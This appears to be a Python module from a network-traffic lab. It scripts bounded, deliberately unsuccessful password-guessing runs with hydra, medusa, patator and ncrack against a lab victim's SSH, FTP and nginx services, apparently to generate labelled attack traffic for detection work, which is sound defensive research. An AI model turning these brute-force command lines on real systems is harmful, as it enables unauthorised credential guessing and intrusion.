"""Password guessing against the victim's sshd, vsftpd and nginx (basic auth and a login
form), with hydra, medusa, patator and ncrack. None of it can succeed: sshd takes only the
lab's key, vsftpd authenticates against a PAM service that refuses everyone (anonymous
FTP names are never guessed), and the web password is random and in no wordlist.

Each run is bounded by its wordlists (users x passwords) and by timeout(1).
"""
from __future__ import annotations

import math
import random

from trafficlab.attacks.base import Scenario, Target, Variant, run
from trafficlab.services import ASSETS

# Against the lab sshd (MaxAuthTries 3), hydra opens about one connection per guess when
# it cycles users (-u), and one per 1 to 2.3 guesses (measured) when it cycles passwords.
TRIES_PER_CONN = 1.5
ANONYMOUS = {"ftp", "anonymous"}


def _words(name: str) -> list[str]:
    return (ASSETS / "wordlists" / name).read_text().split()


def wordlists(rng: random.Random, attempts: float, service: str) -> tuple[list[str], list[str], dict]:
    """Users and passwords whose product is about `attempts`, and the files holding them."""
    users = [u for u in _words("users.txt") if service != "ftp" or u not in ANONYMOUS]
    passwords = _words("passwords.txt")
    u = rng.sample(users, rng.randint(3, min(10, len(users))))
    if attempts / len(u) > len(passwords):
        u = rng.sample(users, min(len(users), max(len(u), round(attempts / len(passwords)))))
    p = rng.sample(passwords, max(1, min(len(passwords), round(attempts / len(u)))))
    tag = rng.getrandbits(24)
    files = {f"users-{service}-{tag}.txt": "\n".join(u) + "\n",
             f"passwords-{service}-{tag}.txt": "\n".join(p) + "\n"}
    return u, p, files


def parallel(choices: list[int], rng: random.Random, t: Target) -> int:
    """Tasks/threads for a run. Over lossy, slow links fewer (hydra with 32 tasks was seen
    falling into a connect-reset loop of tens of thousands of flows there); over long but
    clean links more, as an attacker would, since each guess then waits on round trips."""
    n = rng.choice(choices)
    if t.fragile:
        return max(4, round(n / t.slowdown))
    return min(64, round(n * min(2.0, t.slowdown / 1.5))) if t.slowdown > 1.5 else n


def _url(service: str, t: Target) -> str:
    return {"ssh": f"ssh://{t.victim}", "ftp": f"ftp://{t.victim}", "http": t.victim}[service]


def hydra(service: str, form: bool = False):
    """hydra -L users -P passwords against ssh, ftp, http-get /admin/ or http-post-form /login."""
    def plan(rng: random.Random, n: int, t: Target):
        cycle_users = rng.random() < 0.65
        per_conn = 1.0 if cycle_users or service != "ssh" else TRIES_PER_CONN
        u, p, files = wordlists(rng, n * per_conn, service)
        ufile, pfile = list(files)
        tasks = parallel([8, 16, 24, 32, 48] if service != "ftp" else [16, 32, 48, 64], rng, t)
        # hydra's -w is also its connect timeout: long, lossy links need a longer one.
        wait = max(rng.choice([1, 1, 2]), math.ceil(2 * t.slowdown) if t.slowdown > 1.2 else 0)
        argv = ["hydra", "-L", ufile, "-P", pfile, "-t", str(tasks), "-w", str(wait), "-I", "-q"]
        if cycle_users:
            argv.append("-u")
        extra = rng.random() < 0.3
        if extra:
            argv += ["-e", "nsr"]   # also try empty, login-as-password and reversed login
        attempts = len(u) * (len(p) + (3 if extra else 0))
        if service == "http":
            target = ([t.victim, "http-post-form", "/login:user=^USER^&pass=^PASS^:F=invalid"] if form
                      else [t.victim, "http-get", "/admin/"])
            argv += target
        else:
            argv.append(_url(service, t))
        # Seconds per guess and task: vsftpd waits 1 s after each failure; nginx is quick.
        per_try = {"ssh": wait + 0.3, "ftp": 1.5, "http": 0.3}[service]
        rate = tasks / per_try * per_conn
        return run(argv, attempts / rate * 2.5 + 20, attempts * 40, round(attempts / per_conn),
                   {"users": len(u), "passwords": len(p), "tasks": tasks, "wait_s": wait,
                    "cycle_users": cycle_users, "extra_checks": extra}, files=files)
    return plan


def medusa(service: str):
    def plan(rng: random.Random, n: int, t: Target):
        u, p, files = wordlists(rng, n, service)
        ufile, pfile = list(files)
        threads = parallel([4, 8, 16, 24], rng, t)
        argv = ["medusa", "-h", t.victim, "-U", ufile, "-P", pfile, "-M", service, "-t", str(threads),
                "-T", "1", "-b", "-v", "1", "-R", "0", "-g", "3"]
        if service == "http":
            argv += ["-m", "DIR:/admin/", "-m", "AUTH:BASIC"]
        attempts = len(u) * len(p)
        rate = threads / (1.4 if service == "ftp" else 0.4)
        return run(argv, attempts / rate * 2.5 + 20, attempts * 40, attempts,
                   {"users": len(u), "passwords": len(p), "threads": threads}, files=files)
    return plan


def patator(service: str):
    module = {"ssh": "ssh_login", "ftp": "ftp_login", "http": "http_fuzz"}[service]

    def plan(rng: random.Random, n: int, t: Target):
        u, p, files = wordlists(rng, n, service)
        ufile, pfile = list(files)
        threads = parallel([4, 8, 16], rng, t)
        persistent = rng.choice(["0", "1"])
        if service == "http":
            # resolve= also works around patator 0.9 passing pycurl an empty RESOLVE entry.
            argv = ["patator", module, "url=http://www.lab.internal/admin/",
                    f"resolve=www.lab.internal:{t.victim}", "user_pass=FILE0:FILE1",
                    "auth_type=basic", f"persistent={persistent}", "-x", "ignore:code=401"]
        else:
            argv = ["patator", module, f"host={t.victim}", "user=FILE0", "password=FILE1",
                    f"persistent={persistent}", "-x", "ignore:fgrep=failed" if service == "ssh"
                    else "ignore:code=530"]
        argv += [f"0={ufile}", f"1={pfile}", f"--threads={threads}", "--max-retries=0",
                 "--timeout=5"]
        if rng.random() < 0.3:
            argv.append(f"--rate-limit={rng.choice([0.05, 0.1])}")
        attempts = len(u) * len(p)
        rate = threads / (1.4 if service == "ftp" else 0.5)
        return run(argv, attempts / rate * 3 + 25, attempts * 40, attempts,
                   {"users": len(u), "passwords": len(p), "threads": threads, "persistent": persistent},
                   files=files)
    return plan


def ncrack(service: str):
    def plan(rng: random.Random, n: int, t: Target):
        u, p, files = wordlists(rng, n, service)
        ufile, pfile = list(files)
        cl = parallel([4, 8, 16], rng, t)
        at = rng.choice([1, 2, 3])
        argv = ["ncrack", "-U", ufile, "-P", pfile, rng.choice(["-T3", "-T4", "-T5"]),
                "-g", f"cl={cl},CL={cl * 2},at={at},cr=3", f"{service}://{t.victim}"]
        if rng.random() < 0.4:
            argv.append("--passwords-first")
        attempts = len(u) * len(p)
        rate = cl / (1.4 if service == "ftp" else 0.4)
        return run(argv, attempts / rate * 3 + 25, attempts * 40, round(attempts / at),
                   {"users": len(u), "passwords": len(p), "min_connections": cl,
                    "tries_per_connection": at}, files=files)
    return plan


SSH_BRUTEFORCE = Scenario("ssh_bruteforce", "password guessing against the lab sshd", (
    Variant("hydra_ssh", "train", "hydra ssh://", "hydra, users or passwords first", hydra("ssh"), ("hydra",)),
    Variant("medusa_ssh", "heldout", "medusa -M ssh", "medusa", medusa("ssh"), ("medusa",)),
    Variant("patator_ssh", "heldout", "patator ssh_login", "patator (paramiko)", patator("ssh"), ("patator",)),
    Variant("ncrack_ssh", "heldout", "ncrack ssh://", "ncrack", ncrack("ssh"), ("ncrack",)),
))

FTP_BRUTEFORCE = Scenario("ftp_bruteforce", "password guessing against the lab vsftpd", (
    Variant("hydra_ftp", "train", "hydra ftp://", "hydra", hydra("ftp"), ("hydra",)),
    Variant("medusa_ftp", "heldout", "medusa -M ftp", "medusa", medusa("ftp"), ("medusa",)),
    Variant("patator_ftp", "heldout", "patator ftp_login", "patator", patator("ftp"), ("patator",)),
    Variant("ncrack_ftp", "heldout", "ncrack ftp://", "ncrack", ncrack("ftp"), ("ncrack",)),
))

HTTP_BRUTEFORCE = Scenario("http_bruteforce", "password guessing against nginx basic auth and a "
                           "login form", (
    Variant("hydra_http_basic", "train", "hydra http-get /admin/", "basic auth", hydra("http"), ("hydra",)),
    Variant("hydra_http_form", "train", "hydra http-post-form /login", "login form POSTs",
            hydra("http", form=True), ("hydra",)),
    Variant("medusa_http", "heldout", "medusa -M http", "medusa, basic auth", medusa("http"), ("medusa",)),
    Variant("patator_http", "heldout", "patator http_fuzz", "patator, basic auth", patator("http"),
            ("patator",)),
))
